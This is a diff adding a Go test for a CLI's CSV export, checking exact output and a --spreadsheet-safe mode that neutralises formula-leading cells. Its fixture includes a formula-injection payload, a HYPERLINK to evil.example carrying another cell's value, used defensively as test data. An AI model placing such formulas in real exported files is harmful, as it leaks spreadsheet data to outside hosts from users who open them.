@@ -1,6 +1,8 @@
 package main
 
 import (
+	"encoding/csv"
+	"slices"
 	"strings"
 	"testing"
 )
@@ -42,6 +44,46 @@ func TestShowSaysWhyAPageHasNothingToShow(t *testing.T) {
 				t.Errorf("printed %q, want %q", got.out, tt.prints)
 			}
 		})
+	}
+}
+
+func TestD1ExportedValuesAreExactAndSafeForSpreadsheetsOnRequest(t *testing.T) {
+	const rows = "name,change,note\n" +
+		"=HYPERLINK(\"\"http://evil.example/?\"\"&B2),-12.5,plain\n" +
+		"@SUM(A1),+3,\"a;=b\"\n" + "-2+3,-1e-9,\"two\nlines\"\n" + "\"\tx\",,=\n"
+	p := newPlace(t)
+	file := p.write("own.csv", strings.Replace(rows, "=HYPERLINK(\"\"http://evil.example/?\"\"&B2)", "\"=HYPERLINK(\"\"http://evil.example/?\"\"&B2)\"", 1))
+	read := func(args ...string) [][]string {
+		t.Helper()
+		got := p.run(append([]string{"show", "dataframe", "--format", "csv", "--data", file}, args...)...)
+		cells, err := csv.NewReader(strings.NewReader(got.out)).ReadAll()
+		if got.code != exitDone || err != nil || got.err != "" {
+			t.Fatalf("exit %d, %v: %s", got.code, err, got.err)
+		}
+		return cells
+	}
+	exact := [][]string{
+		{"name", "change", "note"}, {"=HYPERLINK(\"http://evil.example/?\"&B2)", "-12.5", "plain"},
+		{"@SUM(A1)", "+3", "a;=b"}, {"-2+3", "-1e-9", "two\nlines"}, {"\tx", "", "="},
+	}
+	if got := read(); !slices.EqualFunc(got, exact, slices.Equal) {
+		t.Errorf("D-1 exact: %q", got)
+	}
+	safe := [][]string{
+		{"name", "change", "note"}, {"'=HYPERLINK(\"http://evil.example/?\"&B2)", "-12.5", "plain"},
+		{"'@SUM(A1)", "+3", "a;'=b"}, {"'-2+3", "-1e-9", "two\nlines"}, {"'\tx", "", "'="},
+	}
+	if got := read("--spreadsheet-safe"); !slices.EqualFunc(got, safe, slices.Equal) {
+		t.Errorf("D-1 safe: %q", got)
+	}
+	plain := p.run("show", "plotting", "--format", "csv", "--spreadsheet-safe")
+	if plain.code != exitNotSignedIn || plain.out != "" {
+		t.Errorf("the lock: exit %d, %q", plain.code, plain.out)
+	}
+	for _, format := range []string{"json", "text", "svg"} {
+		if got := p.run("show", "dataframe", "--format", format, "--spreadsheet-safe"); got.code != exitUsage || !strings.Contains(got.err, "--format csv") {
+			t.Errorf("%s: exit %d, %s", format, got.code, got.err)
+		}
 	}
 }
 
